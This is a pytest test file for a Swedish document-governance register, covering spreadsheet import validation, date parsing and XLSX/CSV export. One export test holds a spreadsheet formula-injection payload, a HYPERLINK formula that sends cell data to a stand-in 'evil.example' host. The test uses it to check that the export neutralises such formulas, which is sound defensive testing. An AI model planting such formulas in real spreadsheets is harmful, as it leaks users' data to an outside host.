"""Spreadsheets in and out: XLSX and CSV imports held to the rules, the XLSX export, and CSV
that Swedish Excel opens."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import shlex
import tomllib
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import attrs
import openpyxl
import pytest
from click.testing import CliRunner, Result

from conftest import DEMO_TODAY, day, request
from styrdok import PermissionDenied, RuleViolation
from styrdok.cli import main
from styrdok.demo import build_demo
from styrdok.registry import Registry
from styrdok.serialize import to_data
from styrdok.sheet_layout import LAYOUTS, mapping_from_settings
from styrdok.spreadsheets import SheetError

Run = Callable[..., Result]

DOC_HEADINGS = [
    "Referens", "Titel", "Typ", "Status", "Version", "Ägare", "Väktare", "Beslutad av",
    "Beslutsdatum", "Uppföljning", "Uppföljning av", "Revideras senast",
]  # fmt: skip


def doc_row(n: int, **changes: Any) -> list[Any]:
    """A document in force, as a row under DOC_HEADINGS."""
    cells = {
        "Referens": f"RUT-{n:02d}",
        "Titel": f"Rutin nummer {n}",
        "Typ": "rutin",
        "Status": "gällande",
        "Version": 1,
        "Ägare": "owner",
        "Väktare": "guardian",
        "Beslutad av": "KS",
        "Beslutsdatum": dt.date(2026, 1, 15),
        "Uppföljning": "Årlig genomgång",
        "Uppföljning av": "Kommunstyrelsen",
        "Revideras senast": "2027-01-15",
    }
    cells.update(changes)
    return [cells[heading] for heading in DOC_HEADINGS]


def xlsx(path: Path, headings: Sequence[Any], rows: Sequence[Sequence[Any]]) -> Path:
    """A workbook with one sheet, as a person would make it in Excel."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(list(headings))
    for row in rows:
        sheet.append(list(row))
    workbook.save(path)
    return path


def _state(registry: Registry) -> tuple[Any, ...]:
    """Everything an import could change: records and the audit log."""
    return (
        [to_data(d) for d in registry.list_documents()],
        [to_data(x) for x in registry.list_dispensations()],
        len(list(registry.audit_events())),
    )


# --- import: all or nothing, rows named --------------------------------------------------


def test_a_bad_date_on_row_7_names_row_7_and_nothing_is_written(
    seeded: Registry, tmp_path: Path
) -> None:
    """Five good rows and one bad date: one error naming row 7 and its column; no record."""
    rows = [doc_row(n) for n in range(1, 6)] + [doc_row(6, Beslutsdatum="2026-13-01")]
    sheet = xlsx(tmp_path / "dokument.xlsx", DOC_HEADINGS, rows)
    before = _state(seeded)
    with pytest.raises(SheetError) as raised:
        seeded.import_spreadsheet(sheet, kind="documents", actor="admin")
    assert str(raised.value) == (
        "row 7, column \"Beslutsdatum\" (I): '2026-13-01' is not a date in the calendar"
    )
    assert _state(seeded) == before


def test_the_command_line_names_the_row_in_swedish_and_exits_1(
    seeded: Registry, cli: Run, tmp_path: Path
) -> None:
    """`styrdok import` prints the same problem as one Swedish line, exit code 1."""
    rows = [doc_row(n) for n in range(1, 6)] + [doc_row(6, Beslutsdatum="32/1/2026")]
    sheet = xlsx(tmp_path / "dokument.xlsx", DOC_HEADINGS, rows)
    result = cli("--as", "admin", "import", str(sheet), "--kind", "documents")
    assert result.exit_code == 1
    assert result.stderr == (
        "Error: rad 7, kolumn \"Beslutsdatum\" (I): '32/1/2026' är inget datum i kalendern\n"
    )
    assert [d.ref for d in seeded.list_documents()] == ["POL-1"]


def test_the_rules_apply_to_every_row(seeded: Registry, tmp_path: Path) -> None:
    """A document in force without a follow-up is refused as adopting it would be."""
    rows = [doc_row(1), doc_row(2, **{"Uppföljning": None, "Uppföljning av": None})]
    sheet = xlsx(tmp_path / "dokument.xlsx", DOC_HEADINGS, rows)
    with pytest.raises(SheetError, match=r"^row 3, column \"Status\" \(D\): .*follow-up"):
        seeded.import_spreadsheet(sheet, kind="documents", actor="admin")


def test_an_approval_by_the_requester_is_refused_naming_the_decider_column(
    seeded: Registry, tmp_path: Path
) -> None:
    """Separation of duties holds for rows too: the requester cannot have approved."""
    headings = ["Dokument", "Omfattning", "Sökt av", "Ansvarig", "Gäller från", "Gäller till",
                "Finansieras av", "Status", "Beslutad av", "Beslutsdatum"]  # fmt: skip
    row = ["POL-1", "Pilot", "guardian", "responsible", "2026-04-01", "2026-06-01", "BUN",
           "beviljad", "guardian", "2026-03-10"]  # fmt: skip
    sheet = xlsx(tmp_path / "dispenser.xlsx", headings, [row])
    with pytest.raises(SheetError) as raised:
        seeded.import_spreadsheet(sheet, kind="dispensations", actor="admin")
    assert str(raised.value).startswith('row 2, column "Beslutad av" (I): guardian may not')
    assert "separation of duties" in str(raised.value)


def test_a_row_already_in_the_registry_is_refused_with_its_row(
    seeded: Registry, tmp_path: Path
) -> None:
    """A spreadsheet adds records: a ref the registry holds is named, nothing written."""
    sheet = xlsx(tmp_path / "d.xlsx", DOC_HEADINGS, [doc_row(1), doc_row(2, Referens="pol-1")])
    before = _state(seeded)
    with pytest.raises(SheetError) as raised:
        seeded.import_spreadsheet(sheet, kind="documents", actor="admin")
    assert str(raised.value) == (
        "row 3: pol-1 is already in the registry; a spreadsheet import only adds new records"
    )
    assert _state(seeded) == before


def test_only_an_administrator_may_import(seeded: Registry, tmp_path: Path) -> None:
    """Bulk records come in by an administrator, as a merged import does."""
    sheet = xlsx(tmp_path / "d.xlsx", DOC_HEADINGS, [doc_row(1)])
    with pytest.raises(PermissionDenied):
        seeded.import_spreadsheet(sheet, kind="documents", actor="owner")


def test_an_unknown_heading_is_named_with_its_column(seeded: Registry, tmp_path: Path) -> None:
    """A heading the layout does not have is refused rather than silently dropped."""
    sheet = xlsx(tmp_path / "d.xlsx", [*DOC_HEADINGS, "Kommentar"], [[*doc_row(1), "x"]])
    with pytest.raises(SheetError, match=r'^row 1, column "Kommentar" \(M\): no column of'):
        seeded.import_spreadsheet(sheet, kind="documents", actor="admin")


def test_dry_run_shows_what_would_be_added_and_writes_nothing(
    seeded: Registry, tmp_path: Path
) -> None:
    """--dry-run checks every row and lists them; the registry and its log are unchanged."""
    sheet = xlsx(tmp_path / "d.xlsx", DOC_HEADINGS, [doc_row(1), doc_row(2)])
    before = _state(seeded)
    result = seeded.import_spreadsheet(sheet, kind="documents", actor="admin", dry_run=True)
    assert [(a.row, a.ref, a.status) for a in result.added] == [
        (2, "RUT-01", "in_force"),
        (3, "RUT-02", "in_force"),
    ]
    assert _state(seeded) == before


def test_dry_run_on_the_command_line_prints_a_swedish_summary(
    seeded: Registry, cli: Run, tmp_path: Path
) -> None:
    """The summary lists row, ref, title and status, and says nothing was written."""
    sheet = xlsx(tmp_path / "d.xlsx", DOC_HEADINGS, [doc_row(1)])
    result = cli("--as", "admin", "import", str(sheet), "--kind", "documents", "--dry-run")
    assert result.exit_code == 0
    assert result.output.splitlines() == [
        "RAD  REFERENS  TITEL           STATUS",
        "---  --------  --------------  --------",
        "2    RUT-01    Rutin nummer 1  gällande",
        "Skulle importera 1 dokument; inget har skrivits (--dry-run).",
    ]


def test_an_import_is_audited_record_by_record(seeded: Registry, tmp_path: Path) -> None:
    """Each row is one audited record naming the file by its SHA-256, then one summary."""
    sheet = xlsx(tmp_path / "d.xlsx", DOC_HEADINGS, [doc_row(1), doc_row(2)])
    result = seeded.import_spreadsheet(sheet, kind="documents", actor="admin")
    events = list(seeded.audit_events())[-5:]
    assert [(e.actor, e.action, e.entity) for e in events] == [
        ("admin", "document.import", "document:RUT-01"),
        ("admin", "document.import", "document:RUT-02"),
        ("admin", "document.import_version", "document:RUT-01"),
        ("admin", "document.import_version", "document:RUT-02"),
        ("admin", "registry.import", "registry:"),
    ]
    assert events[0].after is not None and events[0].after["source_sha256"] == result.sha256
    in_force = {v.document_ref for v in seeded.documents_in_force(on=dt.date(2026, 2, 1))}
    assert {"RUT-01", "RUT-02"} <= in_force


# --- reading what people write ------------------------------------------------------------


def test_a_cp1252_csv_with_semicolons_reads_åäö_right(seeded: Registry, tmp_path: Path) -> None:
    """Swedish Excel's plain "CSV" (Windows-1252, semicolons) keeps å, ä and ö."""
    text = (
        "Referens;Titel;Typ;Ägare;Väktare;Gäller för\r\n"
        "RIKT-ATERBRUK;Riktlinje för återbruk av möbler;riktlinje;owner;guardian;"
        '"Förskolor; Äldreomsorg"\r\n'
    )
    path = tmp_path / "dokument.csv"
    path.write_bytes(text.encode("cp1252"))
    seeded.import_spreadsheet(path, kind="documents", actor="admin")
    stored = {d.ref: d for d in seeded.list_documents()}
    assert stored["RIKT-ATERBRUK"].title == "Riktlinje för återbruk av möbler"
    assert stored["RIKT-ATERBRUK"].applies_to == ("Förskolor", "Äldreomsorg")


def test_a_utf8_csv_with_bom_and_commas_is_read(seeded: Registry, tmp_path: Path) -> None:
    """UTF-8 with a byte order mark and comma separators, English headings."""
    text = 'Reference,Title,Type,Owner\r\nPLAN-1,"Plan, för skolan",plan,owner\r\n'
    path = tmp_path / "documents.csv"
    path.write_bytes(text.encode("utf-8-sig"))
    seeded.import_spreadsheet(path, kind="documents", actor="admin")
    assert {d.ref: d.title for d in seeded.list_documents()}["PLAN-1"] == "Plan, för skolan"


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("2026-11-22", dt.date(2026, 11, 22)),
        ("22/11/2026", dt.date(2026, 11, 22)),
        ("22.11.2026", dt.date(2026, 11, 22)),
        ("22 november 2026", dt.date(2026, 11, 22)),
        ("3 okt. 2027", dt.date(2027, 10, 3)),
        ("20261122", dt.date(2026, 11, 22)),
        (dt.datetime(2026, 11, 22), dt.date(2026, 11, 22)),
    ],
)
def test_dates_in_iso_and_swedish_forms(
    seeded: Registry, tmp_path: Path, written: Any, read: dt.date
) -> None:
    """A date cell reads in ISO, day-first and spelled-out Swedish forms, or as an Excel date."""
    sheet = xlsx(tmp_path / "d.xlsx", DOC_HEADINGS, [doc_row(1, **{"Revideras senast": written})])
    seeded.import_spreadsheet(sheet, kind="documents", actor="admin")
    assert {d.ref: d for d in seeded.list_documents()}["RUT-01"].next_review_on == read


def test_ja_nej_amounts_and_lists_as_people_write_them(seeded: Registry, tmp_path: Path) -> None:
    """ja/nej, "18 500,50 kr", and lists split on line breaks (or on ';')."""
    headings = ["Dokument", "Omfattning", "Ansvarig", "Gäller från", "Gäller till",
                "Beräknad kostnad", "Ingen extra kostnad", "Finansieras av",
                "Gäller för"]  # fmt: skip
    row = ["POL-1", "Pilot", "responsible", day(10), day(100), "18 500,50 kr", "nej", "BUN",
           "Nordskolan; klass 7\nSödra skolan"]  # fmt: skip
    sheet = xlsx(tmp_path / "x.xlsx", headings, [row])
    added = seeded.import_spreadsheet(sheet, kind="dispensations", actor="admin").added
    stored = seeded.get_dispensation(added[0].ref)
    assert str(stored.funding.estimated_cost) == "18500.50"
    assert stored.funding.no_extra_cost is False
    assert stored.applies_to == ("Nordskolan; klass 7", "Södra skolan")


def test_dispensations_without_a_ref_get_the_next_numbers(
    seeded: Registry, approved: str, tmp_path: Path
) -> None:
    """Rows without a ref are numbered after the registry's; the requester defaults to the
    responsible person and the request date to today."""
    headings = ["Dokument", "Omfattning", "Ansvarig", "Gäller från", "Gäller till",
                "Finansieras av"]  # fmt: skip
    rows = [["POL-1", scope, "responsible", day(10), day(100), "BUN"] for scope in "AB"]
    sheet = xlsx(tmp_path / "x.xlsx", headings, rows)
    added = seeded.import_spreadsheet(sheet, kind="dispensations", actor="admin").added
    assert [a.ref for a in added] == ["D-2026-0002", "D-2026-0003"]
    second = seeded.get_dispensation("D-2026-0003")
    assert (second.requested_by, second.requested_on) == ("responsible", day(0))
    assert approved == "D-2026-0001"


def test_a_pending_request_must_be_one_the_document_accepts_today(
    seeded: Registry, tmp_path: Path
) -> None:
    """A request longer than the document's longest dispensation is refused, as asking is."""
    headings = ["Dokument", "Omfattning", "Ansvarig", "Gäller från", "Gäller till",
                "Finansieras av"]  # fmt: skip
    row = ["POL-1", "För länge", "responsible", day(10), day(400), "BUN"]
    sheet = xlsx(tmp_path / "x.xlsx", headings, [row])
    with pytest.raises(SheetError, match=r'^row 2, column "Gäller till" \(E\): .*180 days'):
        seeded.import_spreadsheet(sheet, kind="dispensations", actor="admin")


def test_a_mapping_in_styrdok_toml_reads_other_headings(
    seeded: Registry, cli: Run, tmp_path: Path
) -> None:
    """`[import.documents]` maps a municipality's own headings; `ignore` leaves some out."""
    settings = tmp_path / "styrdok.toml"
    settings.write_text(
        '[import.documents]\ntitle = "Dokumentnamn"\nowner = "Ansvarig"\nignore = ["Kommentar"]\n',
        encoding="utf-8",
    )
    sheet = xlsx(
        tmp_path / "d.xlsx",
        ["Referens", "Dokumentnamn", "Typ", "Ansvarig", "Kommentar"],
        [["RUT-9", "Rutin för nycklar", "rutin", "owner", "fråga Eva"]],
    )
    result = cli("--config", str(settings), "--as", "admin", "import", str(sheet),
                 "--kind", "documents")  # fmt: skip
    assert (result.exit_code, result.output) == (0, "Importerade 1 dokument från d.xlsx.\n")
    assert {d.ref: d.title for d in seeded.list_documents()}["RUT-9"] == "Rutin för nycklar"


def test_a_mapping_to_a_column_that_does_not_exist_is_refused(
    seeded: Registry, cli: Run, tmp_path: Path
) -> None:
    """A misspelt key in `[import.documents]` is named, as every setting is."""
    settings = tmp_path / "styrdok.toml"
    settings.write_text('[import.documents]\ntitel = "Namn"\n', encoding="utf-8")
    sheet = xlsx(tmp_path / "d.xlsx", DOC_HEADINGS, [doc_row(1)])
    result = cli("--lang", "en", "--config", str(settings), "--as", "admin", "import", str(sheet),
                 "--kind", "documents")  # fmt: skip
    assert result.exit_code == 1
    assert result.stderr.startswith(
        f"Error: {settings}: [import.documents] titel: unknown setting; known: "
    )


def test_a_spreadsheet_needs_a_kind(cli: Run, tmp_path: Path) -> None:
    """Without --kind the command says what it needs (a usage mistake, exit 2)."""
    sheet = xlsx(tmp_path / "d.xlsx", DOC_HEADINGS, [doc_row(1)])
    result = cli("import", str(sheet))
    assert result.exit_code == 2
    assert "a spreadsheet needs --kind" in result.stderr


# --- export ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def demo_workbook(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """The Mittköping demo register and its XLSX export."""
    folder = tmp_path_factory.mktemp("demo")
    with Registry.open(folder / "demo.db", create=True) as registry:
        build_demo(registry, today=DEMO_TODAY)
        registry.export_xlsx(folder / "register.xlsx")
    return folder / "demo.db", folder / "register.xlsx"


def _records(registry: Registry) -> dict[str, list[Any]]:
    def plain(record: Any) -> Any:
        data = to_data(record)
        data.pop("revision", None)  # the lock token of this registry, not the record
        data.pop("draft", None)  # work in progress: not a column (docs/spreadsheets.md)
        return data

    return {
        "documents": [plain(d) for d in registry.list_documents()],
        "dispensations": [plain(x) for x in registry.list_dispensations()],
        "persons": [plain(p) for p in registry.list_persons()],
        "bodies": [plain(b) for b in registry.list_bodies()],
    }


def test_the_exported_workbook_imports_back_record_for_record(
    registry: Registry, demo_workbook: tuple[Path, Path]
) -> None:
    """Demo → XLSX → an empty registry, sheet by sheet: the same records, field for field."""
    demo_db, workbook = demo_workbook
    for kind in ("persons", "bodies", "documents", "dispensations"):
        registry.import_spreadsheet(workbook, kind=kind, actor="eva.ek")
    with Registry.open(demo_db) as original:
        assert _records(registry) == _records(original)


def test_the_workbook_has_swedish_sheets_headings_and_real_dates(
    demo_workbook: tuple[Path, Path],
) -> None:
    """Four sheets in Swedish; a decision date is an Excel date shown as yyyy-mm-dd."""
    workbook = openpyxl.load_workbook(demo_workbook[1])
    assert workbook.sheetnames == ["Dokument", "Dispenser", "Personer", "Beslutsinstanser"]
    sheet = workbook["Dokument"]
    headings = [cell.value for cell in sheet[1]]
    assert headings[:7] == ["Referens", "Titel", "Typ", "Status", "Version", "Ägare", "Väktare"]
    decided = sheet.cell(row=2, column=headings.index("Beslutsdatum") + 1)
    assert isinstance(decided.value, dt.datetime) and decided.number_format == "yyyy-mm-dd"
    assert sheet.cell(row=2, column=3).value == "handlingsplan"


def test_formula_looking_text_is_exported_as_text(seeded: Registry, tmp_path: Path) -> None:
    """A scope that reads like a formula is a text cell (quote prefix), never a formula,
    and comes back exactly as typed."""
    attack = '=HYPERLINK("https://evil.example/?"&A1;"Klicka")'
    seeded.request_dispensation(request(scope=attack), actor="requester")
    seeded.export_xlsx(tmp_path / "r.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx")["Dispenser"]
    cell = sheet.cell(row=2, column=4)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (attack, "s", True)
    with zipfile.ZipFile(tmp_path / "r.xlsx") as archive:  # no formula element anywhere
        xml = b"".join(archive.read(name) for name in archive.namelist())
    assert b"<f>" not in xml and b"<f " not in xml


def test_csv_excel_is_semicolons_decimal_commas_and_a_bom(
    demo_workbook: tuple[Path, Path], tmp_path: Path
) -> None:
    """`export --csv-excel`: UTF-8 with a BOM, semicolon separated, amounts as 18500,00."""
    result = CliRunner().invoke(
        main, ["--db", str(demo_workbook[0]), "export", "--csv-excel", str(tmp_path / "xl")]
    )
    assert result.exit_code == 0
    raw = (tmp_path / "xl" / "dispensations.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0]["funding.estimated_cost"] == "18500,00"
    assert rows[0]["scope"].startswith("Pilot av digitalt provverktyg")


def test_format_csv_excel_for_listings(demo_workbook: tuple[Path, Path]) -> None:
    """`--format csv-excel` lists in the same dialect: BOM, semicolons, decimal commas."""
    result = CliRunner().invoke(main, ["--db", str(demo_workbook[0]), "--format", "csv-excel",
                                       "report", "--today", "2026-11-22"])  # fmt: skip
    assert result.exit_code == 0
    assert result.stdout_bytes.startswith(b"\xef\xbb\xbf" + b'"section";"group";"measure"')
    share = next(line for line in result.output.splitlines() if "overdue_share" in line)
    assert share.split(";")[-1].strip('"').startswith("0,")


def test_export_xlsx_on_the_command_line_is_silent_off_a_terminal(
    demo_workbook: tuple[Path, Path], tmp_path: Path
) -> None:
    """No progress bar when standard error is not a terminal: only the one-line summary."""
    target = tmp_path / "r.xlsx"
    result = CliRunner().invoke(main, ["--db", str(demo_workbook[0]), "export", "--xlsx",
                                       str(target)])  # fmt: skip
    assert result.exit_code == 0
    assert result.stdout == ""
    assert result.stderr == (
        f"Skrev {target}: Dokument (17), Dispenser (10), Personer (271), Beslutsinstanser (5).\n"
    )


# --- the documentation stays true -----------------------------------------------------------

DOC = Path(__file__).resolve().parent.parent / "docs" / "spreadsheets.md"


def _doc_commands() -> list[str]:
    text = DOC.read_text(encoding="utf-8")
    blocks = re.findall(r"```bash\n(.+?)\n```", text, flags=re.S)
    return [line for block in blocks for line in block.splitlines() if line.strip()]


def test_every_example_in_docs_spreadsheets_runs_against_the_demo(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The page's commands, in order, in a folder with the demo register: each exits 0."""
    monkeypatch.chdir(tmp_path)
    runner = CliRunner()
    built = runner.invoke(main, ["--db", "mittkoping.db", "demo", "--today", "2026-11-22"])
    assert built.exit_code == 0
    commands = _doc_commands()
    assert len(commands) >= 10
    for line in commands:
        words, target = shlex.split(line, comments=True), None
        if ">" in words:
            words, target = words[: words.index(">")], words[words.index(">") + 1]
        assert words[0] == "styrdok", line
        result = runner.invoke(main, words[1:])
        assert result.exit_code == 0, f"{line}\n{result.output}"
        if target is not None:
            Path(target).write_bytes(result.stdout_bytes)
    with Registry.open("ny.db") as built_again, Registry.open("mittkoping.db") as demo:
        assert _records(built_again) == _records(demo)


def test_the_documented_layout_is_the_layout() -> None:
    """Each column's Swedish heading, English heading and key is a row of the doc's tables,
    and the mapping example there is a valid setting."""
    text = DOC.read_text(encoding="utf-8")
    for layout in LAYOUTS.values():
        for column in layout.columns:
            assert f"| {column.sv} | {column.en} | `{column.key}` |" in text, column
    example = re.search(r"```toml\n(.+?)\n```", text, flags=re.S)
    assert example is not None
    settings = tomllib.loads(example[1])["import"]
    assert mapping_from_settings(settings, "documents", source="x").ignore == (
        "Kommentar",
        "Senast ändrad",
    )


def test_every_attribute_of_a_record_has_a_column() -> None:
    """No field is left out of the workbook (a new field needs its headings here)."""
    for layout in LAYOUTS.values():
        keys = {column.key.split(".")[0] for column in layout.columns}
        # A draft revision is work in progress on a document, not a column of the register
        # (the JSON export carries it).
        names = {field.name for field in attrs.fields(layout.cls)} - {"revision", "draft"}
        assert names == keys, layout.kind


def test_people_into_an_empty_registry_must_include_an_administrator(
    registry: Registry, tmp_path: Path
) -> None:
    """As with the first person added by hand, someone must be able to run the register."""
    sheet = xlsx(tmp_path / "p.xlsx", ["Referens", "Namn"], [["anna.lind", "Anna Lind"]])
    with pytest.raises(RuleViolation, match="must be an administrator"):
        registry.import_spreadsheet(sheet, kind="persons", actor=None)
    assert registry.list_persons() == []


def _help_examples(command: str) -> list[str]:
    text = CliRunner().invoke(main, [command, "--help"]).output
    lines = text.split("Exempel:", 1)[1].split("\n\n", 1)[0].splitlines()  # Swedish help
    return [line.strip() for line in lines if line.strip()]


def test_the_spreadsheet_examples_in_help_run_against_the_demo(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`export --help`'s workbook example, then `import --help`'s spreadsheet examples."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("STYRDOK_DB", "mittkoping.db")
    runner = CliRunner()
    assert runner.invoke(main, ["demo", "--today", "2026-11-22"]).exit_code == 0
    examples = [line for line in _help_examples("export") if "--xlsx" in line]
    examples += [line for line in _help_examples("import") if ".xlsx" in line]
    assert len(examples) == 3
    for example in examples:
        for command in example.split(" && "):
            result = runner.invoke(main, shlex.split(command)[1:])
            assert result.exit_code == 0, f"{command}\n{result.output}"


def test_a_file_that_is_not_a_workbook_is_one_clear_error(seeded: Registry, tmp_path: Path) -> None:
    """A damaged or mislabelled .xlsx is named, not a traceback."""
    path = tmp_path / "register.xlsx"
    path.write_text("Referens;Titel\n", encoding="utf-8")
    with pytest.raises(SheetError, match=r"^register\.xlsx: not a readable XLSX workbook$"):
        seeded.import_spreadsheet(path, kind="documents", actor="admin")
